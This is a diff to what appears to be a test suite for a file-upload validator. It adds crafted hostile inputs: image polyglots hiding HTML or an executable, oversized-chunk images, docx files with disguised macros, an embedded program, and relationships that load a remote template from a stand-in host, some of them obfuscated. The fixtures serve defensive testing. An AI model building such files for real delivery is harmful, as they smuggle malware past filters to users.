@@ -8,6 +8,7 @@ import { apiPaths } from "#domain/api/paths.ts";
 import { problemSchema } from "#domain/api/problem.ts";
 import { describeOnEachStore } from "../stores.ts";
 import { TEST_NOW, testApp } from "../test-app.ts";
+import { rawPng } from "../media/raw-png.ts";
 import { uploadSlots } from "../../../server/advertisement-requests/upload-slots.ts";
 import { compoundFile, doc, jpeg, pdf, png, REQUEST, requestForm, sendRequest } from "./request-files.ts";
 import { docx, DOCX_PARTS, zipFile, type ZipPart } from "./zip-file.ts";
@@ -22,6 +23,18 @@ const part = (name: string, content: Buffer | string = "x", more: Partial<ZipPar
   ...more,
 });
 const padded = (length: number) => Buffer.concat([jpeg(), Buffer.alloc(length - jpeg().length)]);
+
+const docxOfTypes = (type: string) =>
+  zipFile([
+    part("[Content_Types].xml", `<Types><Override ContentType="${type}"/></Types>`),
+    ...DOCX_PARTS.slice(1),
+  ]);
+/** Relationships that Word follows when it opens the document. */
+const related = (kind: string, mode = "External", target = "http://evil.example/t.dotm") =>
+  part(
+    "word/_rels/settings.xml.rels",
+    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="${mode}"/>Type="/relationships/hyperlink"</Relationships>`,
+  );
 
 type Attack = readonly [what: string, name: string, file: Buffer, fault: RequestFileFault];
 const ATTACKS: readonly Attack[] = [
@@ -76,6 +89,13 @@ const ATTACKS: readonly Attack[] = [
     Buffer.concat([jpeg(), zipFile([part("a.exe")])]),
     "two_files_in_one",
   ],
+  ["a JPEG with a page after it", "logo.jpg", Buffer.concat([jpeg(), text(HTML)]), "two_files_in_one"],
+  [
+    "a JPEG with an archive of another kind after it",
+    "logo.jpg",
+    Buffer.concat([jpeg(), text("Rar!\u001a\u0007\u0000"), EXE]),
+    "two_files_in_one",
+  ],
   ["a PDF's first bytes with a page after them", "plan.pdf", text(`%PDF-1.7\n${HTML}`), "damaged"],
   ["a JPEG's first bytes with a page after them", "logo.jpg", text(`\u00ff\u00d8\u00ff${HTML}`), "damaged"],
   [
@@ -97,8 +117,56 @@ const ATTACKS: readonly Attack[] = [
       return [`a ${ending} cut after ${share * 100} %`, `cut.${ending}`, cut, "damaged"];
     }),
   ),
+  [
+    "a PNG of 100,000 empty parts",
+    "logo.png",
+    rawPng(
+      4,
+      4,
+      Array.from({ length: 100_000 }, () => ["tEXt", Buffer.alloc(0)] as const),
+    ),
+    "damaged",
+  ],
+  [
+    "a JPEG with 100,000 bytes that fill up",
+    "logo.jpg",
+    Buffer.concat([jpeg().subarray(0, 2), Buffer.alloc(100_000, 0xff), jpeg().subarray(2)]),
+    "damaged",
+  ],
   ["a doc with macros", "plan.doc", compoundFile(["WordDocument", "Macros"]), "has_macros"],
   ["a docx with macros", "plan.docx", docx([part("word/vbaProject.bin")]), "has_macros"],
+  [
+    "a docx with macros under another name",
+    "plan.docx",
+    docxOfTypes("application/vnd.ms-office.vbaProject"),
+    "has_macros",
+  ],
+  [
+    "a docx of a template with macros",
+    "plan.docx",
+    docxOfTypes("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
+    "has_macros",
+  ],
+  ["a docx that loads a template", "plan.docx", docx([related("attachedTemplate")]), "has_remote_parts"],
+  ["a docx that loads a picture", "plan.docx", docx([related("image")]), "has_remote_parts"],
+  [
+    "a docx that hides what it loads",
+    "plan.docx",
+    docx([related("attachedTemplate", "Ext&#101;rnal")]),
+    "has_remote_parts",
+  ],
+  [
+    "a docx that hides it behind another sign",
+    "plan.docx",
+    docx([related("attachedTemplate", "External", "http://evil.example/a>b")]),
+    "has_remote_parts",
+  ],
+  [
+    "a docx with a program inside",
+    "plan.docx",
+    docx([part("word/embeddings/oleObject1.bin", EXE)]),
+    "two_files_in_one",
+  ],
   ["a locked document", "plan.doc", compoundFile(["EncryptionInfo", "EncryptedPackage"]), "locked"],
   ["a docx with a locked entry", "plan.docx", docx([part("word/a.xml", "x", { flags: 1 })]), "locked"],
   ["10 MB and one byte", "photo.jpg", padded(MAX_REQUEST_FILE_BYTES + 1), "too_large"],
